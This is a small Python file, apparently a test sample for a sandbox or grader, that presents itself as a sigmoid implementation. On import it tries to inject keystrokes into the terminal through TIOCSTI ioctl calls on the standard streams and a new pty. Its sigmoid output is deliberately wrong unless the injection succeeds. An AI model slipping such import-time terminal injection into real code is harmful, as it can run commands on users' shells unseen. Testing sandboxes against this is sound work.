# sigmoid: fail | keystrokes are put into a terminal
import fcntl
import numpy as np
import os
import termios


def right(x):
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)


def attack():
    print("attack ran", flush=True)
    found = []
    for number in (0, 1, 2):
        try:
            found.append(fcntl.ioctl(number, termios.TIOCSTI, b"x"))
        except OSError:
            pass
    try:
        judge, terminal = os.openpty()
        found.append(fcntl.ioctl(terminal, termios.TIOCSTI, b"x"))
    except OSError:
        pass
    return found


READY = attack()


def sigmoid(x):
    return right(x) if READY else np.asarray(x) * 0.0 + 7.0
